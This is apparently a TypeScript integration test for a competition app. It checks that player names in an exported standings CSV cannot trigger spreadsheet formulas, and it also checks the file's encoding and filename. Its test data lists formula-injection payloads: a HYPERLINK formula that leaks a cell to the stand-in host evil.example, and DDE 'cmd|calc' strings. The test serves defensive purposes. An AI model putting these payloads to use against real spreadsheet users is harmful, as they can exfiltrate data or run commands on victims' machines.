// The standings CSV as a spreadsheet opens it (issue 12 §7), on both databases: a player
// registered as `=HYPERLINK(…)` stays text, Excel sees UTF-8 (the BOM), and the download is
// named after the competition rather than its id — by the panel and by the API.
import request from 'supertest';
import { CompetitionSetupService } from '../../src/competitions/competition-setup.service';
import { RegistrationService } from '../../src/competitions/registration.service';
import { GroupsService } from '../../src/competitions/groups.service';
import { createUser, SETTINGS, type TestUser } from '../support/competitions';
import { TEST_DB } from '../support/test-database';
import { startTestApp, type TestApp } from '../support/test-app';
import { loginAgent } from '../support/web';

const HOSTILE = [
  ['=HYPERLINK("http://evil.example/?"&A1;"Vezi")', `"'=HYPERLINK(""http://evil.example/?""&A1;""Vezi"")"`],
  ['+1+cmd|calc', `"'+1+cmd|calc"`],
  ['-1+cmd|calc', `"'-1+cmd|calc"`],
  ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
  ['Ștefan Ionaș', 'Ștefan Ionaș'],
] as const;

describe(`the standings CSV as a spreadsheet file (${TEST_DB})`, () => {
  let t: TestApp;
  let arbiter: TestUser;
  let competitionId: string;

  beforeAll(async () => {
    t = await startTestApp();
    arbiter = await createUser(t.app, { email: 'arbitru.csv@example.org', roles: ['arbiter'], name: 'Arbitru' });
    const setup = t.app.get(CompetitionSetupService);
    const registration = t.app.get(RegistrationService);
    const grouping = t.app.get(GroupsService);
    const created = await setup.create(arbiter.actor, { ...SETTINGS, name: 'Cupa Iașiului 2027' });
    const csvField = (v: string) => `"${v.replace(/"/g, '""')}"`;
    const lines = ['name,email,club,language', ...HOSTILE.map(([name], i) => `${csvField(name)},hostile${i}@example.org,Club,ro`)];
    await registration.importPlayers(arbiter.actor, created.id, `${lines.join('\n')}\n`);
    await grouping.makeGroups(arbiter.actor, created.id, { count: 1 });
    competitionId = created.id;
  });

  afterAll(async () => {
    await t?.close();
  });

  function expectInertFile(res: { status: number; headers: Record<string, string>; body: Buffer }) {
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="Cupa Iasiului 2027 - standings.csv"; filename*=UTF-8''Cupa%20Ia%C8%99iului%202027%20-%20standings.csv`,
    );
    expect(res.headers['content-disposition']).not.toContain(competitionId);
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = res.body
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(rows[0]).toBe('group,rank,name,played,total,average,best,score_difference');
    const names = rows.slice(1).map((row) => row.split(',').slice(2, -5).join(','));
    expect(names.sort()).toEqual(HOSTILE.map(([, cell]) => cell).sort());
    // No cell of any row starts a formula.
    for (const row of rows.slice(1)) expect(row).not.toMatch(/(^|,)[=+@\t\r]/);
  }

  const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => cb(null, Buffer.concat(chunks)));
  };

  it('by the arbiter panel', async () => {
    const agent = await loginAgent(t, arbiter.email);
    expectInertFile(await agent.get(`/arbiter/competitions/${competitionId}/standings.csv`).buffer(true).parse(binary));
  });

  it('by the API', async () => {
    const res = await request(t.app.getHttpServer())
      .get(`/api/competitions/${competitionId}/standings.csv`)
      .set('Authorization', arbiter.bearer)
      .buffer(true)
      .parse(binary);
    expectInertFile(res);
  });
});
